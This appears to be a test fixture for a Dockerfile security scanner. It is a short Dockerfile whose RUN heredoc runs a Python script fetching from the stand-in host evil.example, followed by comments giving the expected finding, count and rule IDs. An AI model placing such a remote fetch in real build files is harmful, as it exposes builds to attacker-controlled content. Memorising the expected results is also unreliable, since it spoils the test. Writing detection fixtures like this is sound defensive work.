FROM alpine:3.20@sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa
RUN <<EOF
#!/usr/bin/env python3
import urllib.request as u
u.urlopen('https://evil.example/q')
EOF
USER app
# expect: download 2 high "python3 a RUN script fetches https://evil.example/q"
# expect-count: 3
# expect-ids: VR101-c33602e201 VR301-c7353b8c8e VR501-e064bac1a6
